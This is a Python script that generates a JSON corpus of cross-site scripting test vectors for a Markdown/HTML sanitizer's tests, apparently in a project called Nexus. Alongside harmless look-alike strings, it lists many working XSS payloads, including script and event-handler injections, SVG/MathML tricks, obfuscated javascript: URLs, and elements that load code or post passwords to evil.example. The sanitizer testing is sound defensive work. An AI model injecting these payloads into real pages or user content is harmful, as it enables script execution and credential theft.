"""Writes xss-vectors.json: Nexus's own hostile Markdown/HTML, one list per class of attack.

The hand-written classes are below as literals; the URL classes are the product of every way
Markdown and HTML can carry a URL with every dangerous scheme in every spelling, which is easier
to check here than in a 400-line JSON file. Run it after changing a class:
`python tests/data/make_xss_vectors.py`, then commit both files.
"""

import json
from pathlib import Path

OUT = Path(__file__).with_name("xss-vectors.json")

ALERT = "alert(document.domain)"
SCHEMES = {
    "javascript": f"javascript:{ALERT}",
    "vbscript": "vbscript:msgbox(1)",
    "data-html": "data:text/html,<script>alert(1)</script>",
    "data-html-base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-svg": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "data-png": "data:image/png;base64,iVBORw0KGgo=",
}
# The same javascript: URL as a naive blocklist would miss it.
SPELLINGS = [
    "JAVASCRIPT:" + ALERT,
    "JaVaScRiPt:" + ALERT,
    " \tjavascript:" + ALERT,
    "java\tscript:" + ALERT,
    "java\nscript:" + ALERT,
    "javascript&#58;" + ALERT,
    "javascript&colon;" + ALERT,
    "javascript&#x3A;" + ALERT,
    "&#106;avascript:" + ALERT,
    "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:" + ALERT,
    "jav&#x09;ascript:" + ALERT,
    "jav&#x0A;ascript:" + ALERT,
    "\x01javascript:" + ALERT,
    "javascript%3A" + ALERT,
]
# Every place Markdown and inline HTML put a URL; {u} is the URL.
MARKDOWN_FORMS = {
    "inline link": "[click]({u})",
    "inline link with title": '[click]({u} "title")',
    "angle-bracket destination": "[click](<{u}>)",
    "reference link": "[click][r]\n\n[r]: {u}",
    "collapsed reference": "[r][]\n\n[r]: {u}",
    "shortcut reference": "[r]\n\n[r]: {u}",
    "inline image": "![alt]({u})",
    "reference image": "![alt][i]\n\n[i]: {u}",
    "image inside a link": "[![alt](https://example.com/a.png)]({u})",
    "autolink": "<{u}>",
    "html anchor": '<a href="{u}">click</a>',
    "html image": '<img src="{u}" alt="x">',
    "html area": '<map><area href="{u}"></map>',
}

HAND_WRITTEN = {
    "raw-html": [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "before <script>alert(1)</script> after",
        "<script\n>alert(1)</script\n>",
        '<script type="module">import("https://evil.example/m.js")</script>',
        "<iframe src=https://evil.example/></iframe>",
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        '<object data="https://evil.example/x.swf"></object>',
        '<embed src="https://evil.example/x.swf">',
        '<applet code="X.class"></applet>',
        '<form action="https://evil.example/"><input name="password"><button>Go</button></form>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<link rel="stylesheet" href="https://evil.example/x.css">',
        "<style>body{display:none}</style>",
        '<div style="position:fixed;inset:0;background:red">overlay</div>',
        '<p style="background:url(javascript:alert(1))">styled</p>',
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<portal src=https://evil.example/></portal>",
        '<frameset><frame src="https://evil.example/"></frameset>',
        '<video poster="javascript:alert(1)"></video>',
        '<audio src=x onerror="alert(1)"></audio>',
        '<input type="text" value="x" autofocus onfocus="alert(1)">',
        '<button formaction="javascript:alert(1)">x</button>',
        '<select onchange="alert(1)"><option>1</option></select>',
        '<isindex action="javascript:alert(1)" type=image>',
        "<keygen autofocus onfocus=alert(1)>",
    ],
    "event-handlers": [
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=x OnErRoR=alert(1)>",
        '<img src="x" onerror  =  "alert(1)">',
        "<img/src=x/onerror=alert(1)>",
        "<img src=x onerror=alert`1`>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        '<a href="https://example.com" onclick="alert(1)">x</a>',
        '<a href="https://example.com" onmouseover="alert(1)">hover</a>',
        '<div onpointerenter="alert(1)">x</div>',
        '<span onanimationstart="alert(1)" style="animation:x">x</span>',
        '<p onfocusin="alert(1)" tabindex="0" autofocus>x</p>',
        '<kbd onclick="alert(1)">Ctrl</kbd>',
        '<td onmouseenter="alert(1)">cell</td>',
        '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
        "<img src=x onerror=\"eval(atob('YWxlcnQoMSk='))\">",
        "<marquee onstart=alert(1)>x</marquee>",
        '<h1 onbeforecopy="alert(1)">heading</h1>',
        '<input type=checkbox checked onclick="alert(1)">',
        '[x](https://example.com "title" onmouseover="alert(1)")',
        '![x" onerror="alert(1)](x)',
        '![x](https://example.com/a.png" onerror="alert(1))',
    ],
    "svg-and-mathml": [
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
        '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"/></svg>',
        '<svg><set attributeName="href" to="javascript:alert(1)"/></svg>',
        '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"/></svg>',
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
        '<svg><image href="x" onerror="alert(1)"/></svg>',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        '<math href="javascript:alert(1)">click</math>',
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
        "<math><mi xlink:href=data:x,<script>alert(1)</script>>x</mi></math>",
        '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    ],
    "entity-and-case-tricks": [
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "<ScRiPt>alert(1)</sCrIpT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<<script>script>alert(1)<</script>/script>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
        '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>',
        '<a href="javas&#99;ript:alert(1)">x</a>',
        '<a href="javascript&NewLine;:alert(1)">x</a>',
        '<a href="&Tab;javascript:alert(1)">x</a>',
        '<a href="\u0000javascript:alert(1)">x</a>',
        '<a href="jav\u00adascript:alert(1)">x</a>',
        "<img src=x one\u0000rror=alert(1)>",
        "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        '<a href="javascript://%0Aalert(1)">x</a>',
        '<a href="javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>">x</a>',
    ],
    "nested-and-broken-tags": [
        "<div><script>alert(1)</script></div>",
        "<p><img src=x onerror=alert(1)</p>",
        "<img src=x onerror=alert(1)//",
        '<img src="x onerror=alert(1)">',
        '<a href="https://example.com>x</a><script>alert(1)</script>',
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<table><tr><td><script>alert(1)</script></td></tr></table>",
        "<details><summary><img src=x onerror=alert(1)></summary></details>",
        "<blockquote><iframe src=https://evil.example/></blockquote>",
        "<ul><li><svg onload=alert(1)></li></ul>",
        "<!-- <script>alert(1)</script> -->",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        '<?xml version="1.0"?><script>alert(1)</script>',
        "<!DOCTYPE html><script>alert(1)</script>",
        "<div <script>alert(1)</script>>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "<a><a><a><script>alert(1)</script>",
        "<p>" * 50 + "<script>alert(1)</script>",
    ],
    "markdown-breakouts": [
        '```"><script>alert(1)</script>\ncode\n```',
        "```js\n</code></pre><script>alert(1)</script>\n```",
        "`</code><script>alert(1)</script>`",
        "    <script>alert(1)</script>",
        "> <script>alert(1)</script>",
        "- <img src=x onerror=alert(1)>",
        "| a | b |\n|---|---|\n| <script>alert(1)</script> | <img src=x onerror=alert(1)> |",
        "# <svg onload=alert(1)>",
        "**<script>alert(1)</script>**",
        "[<img src=x onerror=alert(1)>](https://example.com)",
        "[x](https://example.com/<script>alert(1)</script>)",
        '[x](https://example.com/"onmouseover="alert(1))',
        "[^1]\n\n[^1]: <script>alert(1)</script>",
        "- [ ] <img src=x onerror=alert(1)>",
        '[[x" onmouseover="alert(1)]]',
        "[[slug|<img src=x onerror=alert(1)>]]",
        "[[javascript:alert(1)]]",
        "~~~\n</pre><script>alert(1)</script>\n~~~",
    ],
}

# Ordinary writing that looks hostile to a careless filter and must keep its text.
HARMLESS = [
    {"markdown": "Use `<script>` tags sparingly.", "keeps": "<script>"},
    {"markdown": '```html\n<script src="app.js"></script>\n```', "keeps": 'src="app.js"'},
    {"markdown": "Compare a < b and b > c.", "keeps": "a < b and b > c"},
    {"markdown": "Read [the docs](https://example.com/docs?q=onload).", "keeps": "the docs"},
    {"markdown": "The `javascript:` scheme is refused.", "keeps": "javascript:"},
    {"markdown": "Press <kbd>Ctrl</kbd>+<kbd>C</kbd>", "keeps": "Ctrl"},
    {"markdown": "An onerror handler is an attribute.", "keeps": "onerror handler"},
    {
        "markdown": "Mail <ada@example.com> or [me](mailto:ada@example.com).",
        "keeps": "ada@example.com",
    },
]


def url_classes() -> dict[str, list[str]]:
    schemes = {
        f"{scheme} URL as {form}": [template.format(u=url) for url in (SCHEMES[scheme],)]
        for scheme in SCHEMES
        for form, template in MARKDOWN_FORMS.items()
    }
    by_scheme: dict[str, list[str]] = {}
    for name, vectors in schemes.items():
        by_scheme.setdefault(f"{name.split(' URL')[0]}-urls", []).extend(vectors)
    by_scheme["javascript-url-spellings"] = [
        template.format(u=spelling)
        for spelling in SPELLINGS
        for template in (
            MARKDOWN_FORMS["inline link"],
            MARKDOWN_FORMS["html anchor"],
            MARKDOWN_FORMS["reference link"],
            MARKDOWN_FORMS["html image"],
        )
    ]
    return by_scheme


def main() -> None:
    corpus = {
        "about": (
            "Nexus's own hostile Markdown/HTML, written for its tests. Every vector must render "
            "with no script, style, svg, math, iframe, object, embed, form or base element, no "
            "on* attribute, and no javascript:, vbscript: or data: URL. 'harmless' entries must "
            "keep their text. Generated by make_xss_vectors.py."
        ),
        "classes": {**HAND_WRITTEN, **url_classes()},
        "harmless": HARMLESS,
    }
    OUT.write_text(json.dumps(corpus, indent=1, ensure_ascii=False) + "\n")
    total = sum(len(v) for v in corpus["classes"].values())
    print(f"{OUT.name}: {total} vectors in {len(corpus['classes'])} classes")


if __name__ == "__main__":
    main()
